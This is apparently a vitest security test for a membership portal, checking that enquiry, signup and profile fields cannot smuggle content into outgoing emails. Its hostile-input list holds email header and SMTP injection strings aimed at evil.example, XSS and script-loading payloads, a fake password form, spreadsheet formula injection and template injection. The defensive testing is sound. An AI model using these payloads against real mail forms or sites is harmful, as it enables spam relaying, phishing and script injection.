import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { demoEmail } from '#server/db/demo-accounts.ts';
import { attacked } from '#tests/support/attacked.ts';
import { type MailServer, startMailServer } from '#tests/support/mail-server.ts';
import { orderByInvoice } from '#tests/support/ordering.ts';
import { startTestApp, type TestApp } from '#tests/support/started-app.ts';
import { type Visitors, visitorsOf } from '#tests/support/visitors.ts';

let mailServer: MailServer;
let portal: TestApp;
let visitors: Visitors;

beforeAll(async () => {
  mailServer = await startMailServer();
  portal = await startTestApp({ SMTP_URL: mailServer.url });
  visitors = await visitorsOf(portal);
});
afterAll(async () => {
  await portal.close();
  mailServer.close();
});

const evil = 'all@evil.example';
const hostile = [
  `Ana\r\nBcc: ${evil}`,
  `Ana\nTo: ${evil}\n\nBuy pills`,
  `Ana\rCc: ${evil}`,
  `Ana\u2028Bcc: ${evil}\u2029x`,
  `Ana\r\n.\r\nMAIL FROM:<${evil}>\r\nRCPT TO:<${evil}>\r\nDATA\r\nx`,
  `Ana\0\x0bBcc: ${evil}`,
  '<img src=x onerror=alert(1)>',
  '</p></div><form action=//evil.example><input name=password>',
  '<a href="https://evil.example">Sign in</a>',
  `"><script src=//evil.example/x.js></script>`,
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  "=cmd|'/C calc'!A0",
  '+1+1" @SUM(A1)',
  '=?utf-8?B?QmNjOiBhQGIuYw==?=',
  '{{constructor.constructor("alert(1)")()}}',
  'You won! Visit https://evil.example/win',
  'evil.example',
  'www.evil.example/win now',
  `Write to ${evil}`,
];

/** The names of all headers before the first empty line, and the addressees that the server was given. */
function expectHonest(letter: string): void {
  const head = letter.slice(0, letter.indexOf('\r\n\r\n'));
  const headers = head
    .replace(/\r\n[ \t]/g, ' ')
    .split('\r\n')
    .map((line) => line.slice(0, line.indexOf(':')).toLowerCase());
  const ours = [
    'from',
    'to',
    'reply-to',
    'subject',
    'message-id',
    'date',
    'mime-version',
    'content-type',
    'content-transfer-encoding',
  ];
  for (const name of headers) expect(ours, head).toContain(name);
  expect(new Set(headers).size, head).toBe(headers.length);
  const to = /^To: (.*)$/m.exec(head)?.[1];
  expect(to).not.toContain(evil);
}

/** What the mails say as HTML: only tags that the letters themselves have, and no way out but ours. */
function expectPlain(html: string): void {
  const tags = [...html.matchAll(/<\/?([a-z][\w-]*)/gi)].map(([, name]) => name?.toLowerCase());
  const ours = ['html', 'head', 'meta', 'title', 'body', 'div', 'p', 'a', 'br', 'span'];
  for (const tag of tags) expect(ours, html).toContain(tag);
  for (const [, href] of html.matchAll(/href="([^"]*)"/g)) expect(href).toMatch(/^http:\/\/localhost/);
  expect(html).not.toMatch(/<[^>]*\son\w+=/i);
}

/** Many mail programs make a link of whatever looks like an address: none of it comes to anybody's mailbox. */
const expectOwnWords = (text: string) => expect(text).not.toMatch(/evil|pills|alert|script|cmd|SUM/);

async function newMails(known: Set<string>) {
  const mails = await portal.database.db.selectFrom('mails').selectAll().execute();
  return mails.filter(({ id }) => !known.has(id));
}

describe('what somebody types stays what it is, in every letter', () => {
  it('in each field of an enquiry, of joining and of a profile', async () => {
    const { token, userId } = await portal.signIn('member');
    const known = new Set((await newMails(new Set())).map(({ id }) => id));
    const enquiry = {
      firstName: 'Ana',
      lastName: 'Tui',
      email: demoEmail('member'),
      enquiryType: 'General',
      message: 'Kia ora',
    };
    const fields = ['firstName', 'lastName', 'email', 'phoneNumber', 'enquiryType', 'message'];
    attacked(hostile.length * (fields.length + 3));
    for (const text of hostile) {
      await portal.database.pool.query('DELETE FROM rate_limits');
      for (const field of fields) {
        const { status } = await portal.call({
          path: '/api/enquiry/submit',
          json: { ...enquiry, [field]: text },
          token,
        });
        const isText = ['firstName', 'lastName', 'message'].includes(field);
        expect(status, `${field}: ${text}`).toBe(isText ? 200 : 400);
      }
      const joined = visitors.visitor({ firstName: text, lastName: text });
      expect((await visitors.join(joined)).status).toBe(200);
      const emails = await visitors.join(visitors.visitor({ email: text }));
      expect(emails.status).toBe(400);
      await portal.call({ path: `/api/users/${userId}`, json: { firstName: text, prefName: text }, token });
      // Who joined under an email that is not theirs may have a link sent there, too.
      for (const username of [demoEmail('member'), joined.email]) {
        const address = visitors.anAddress();
        await portal.call({ path: '/connect/forgotpassword', json: { username }, address });
      }
      expect((await orderByInvoice(portal, token)).status).toBe(200);
    }
    const mails = await newMails(known);
    // To the association, to the sender, to who joined, two links and an order.
    expect(mails.length).toBeGreaterThanOrEqual(hostile.length * 10);
    for (const { subject, textBody, htmlBody, toAddress, replyTo } of mails) {
      expectPlain(htmlBody);
      if (toAddress !== portal.config.enquiries.to) expectOwnWords(`${textBody} ${htmlBody}`);
      expect(subject + toAddress + (replyTo ?? '')).not.toMatch(/[\r\n]|evil/);
      expect(textBody).not.toMatch(/[\0\r\u2028\u2029]/);
    }
    await vi.waitFor(() => expect(mailServer.letters.length).toBeGreaterThanOrEqual(5), {
      timeout: 25_000,
      interval: 100,
    });
    for (const letter of mailServer.letters) expectHonest(letter);
    expect(mailServer.recipients.length).toBeGreaterThanOrEqual(5);
    for (const recipient of mailServer.recipients) expect(recipient).toMatch(/^[\w.]+@(demo|join)\.example$/);
  });
});
